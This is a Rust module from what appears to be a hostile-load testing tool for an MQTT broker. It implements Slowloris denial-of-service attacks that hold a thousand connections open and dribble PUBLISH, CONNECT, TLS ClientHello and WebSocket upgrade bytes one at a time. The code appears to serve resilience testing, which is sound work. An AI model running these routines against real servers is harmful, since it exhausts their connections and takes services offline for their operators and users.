//! Slowloris: many connections, and on each of them a byte at a time.

use std::io;
use std::net::SocketAddr;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use dockside_mqtt::packet::Packet;
use dockside_mqtt::{QoS, Version, codec};
use tokio::time::sleep;
use tokio_rustls::rustls::crypto::ring;
use tokio_rustls::rustls::pki_types::ServerName;
use tokio_rustls::rustls::{ClientConfig, ClientConnection, RootCertStore};

use crate::attack::Attack;
use crate::link::Link;
use crate::packets::{connect, push_publish};

/// Connections at once.
const LANES: u64 = 1_000;

/// Pause between two bytes.
const PAUSE: Duration = Duration::from_millis(200);

/// Whether a connection begins with a CONNECT that is sent at once.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Opening {
    Client,
    Stranger,
}

/// Clients that were let in and send a PUBLISH.
pub(crate) async fn packets(attack: &Attack) {
    let mut bytes = Vec::new();
    push_publish(&mut bytes, "hostile/slow", &[b'x'; 1_000], QoS::AtLeastOnce, 1);
    dribble(attack, Opening::Client, None, bytes).await;
}

/// Clients that send a CONNECT.
pub(crate) async fn connect_packets(attack: &Attack) {
    let mut bytes = Vec::new();
    let client_id = "hostile-".repeat(100);
    let slow = connect(Version::V311, &client_id, true);
    codec::encode(&mut bytes, &Packet::Connect(Box::new(slow)), Version::V311);
    dribble(attack, Opening::Stranger, None, bytes).await;
}

/// Clients that begin a TLS handshake.
pub(crate) async fn tls(attack: &Attack) {
    let address = attack.arguments.tls_address;
    match client_hello() {
        Ok(bytes) => dribble(attack, Opening::Stranger, Some(address), bytes).await,
        Err(error) => eprintln!("hostile: no ClientHello: {error}"),
    }
}

/// Clients that ask for a WebSocket.
pub(crate) async fn websocket(attack: &Attack) {
    let Some(address) = attack.arguments.ws_address else {
        eprintln!("hostile: slowloris-websocket needs --ws-address");
        return;
    };
    let bytes = format!(
        "GET /mqtt HTTP/1.1\r\nHost: {address}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Protocol: mqtt\r\nX-Hostile: {}\r\n\r\n",
        "x".repeat(1_000)
    );
    dribble(attack, Opening::Stranger, Some(address), bytes.into_bytes()).await;
}

/// Sends `bytes`, one after the other, on every connection; at `address` without TLS, or through the listener that
/// is attacked.
async fn dribble(attack: &Attack, opening: Opening, address: Option<SocketAddr>, bytes: Vec<u8>) {
    let bytes = Rc::new(bytes);
    let lane = |attack, _, number| {
        let bytes = Rc::clone(&bytes);
        async move { slow(attack, opening, address, &bytes, number).await }
    };
    attack.lanes(LANES, lane).await;
}

async fn slow(
    attack: Attack,
    opening: Opening,
    address: Option<SocketAddr>,
    bytes: &[u8],
    number: u64,
) {
    let client_id = format!("hostile-slow-{number}");
    loop {
        let link = match (opening, address) {
            (Opening::Client, _) => {
                Link::client(&attack, connect(Version::V311, &client_id, true)).await
            }
            (Opening::Stranger, None) => Link::open(&attack).await,
            (Opening::Stranger, Some(address)) => Link::open_at(&attack, address).await,
        };
        let Ok(mut link) = link else { continue };
        attack.sent(1);
        for byte in bytes.chunks(1) {
            if link.send(byte).await.is_err() {
                break;
            }
            sleep(PAUSE).await;
        }
    }
}

/// The first bytes of a TLS handshake.
fn client_hello() -> io::Result<Vec<u8>> {
    let config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
        .with_safe_default_protocol_versions()
        .map_err(io::Error::other)?
        // It never gets so far that a certificate would be looked at.
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    let mut hello = ClientConnection::new(Arc::new(config), name).map_err(io::Error::other)?;
    let mut bytes = Vec::new();
    hello.write_tls(&mut bytes)?;
    Ok(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_handshake_begins_with_a_client_hello() {
        let bytes = client_hello().unwrap();
        assert_eq!((bytes[0], bytes[5]), (0x16, 1));
        assert!(bytes.len() > 100);
    }
}
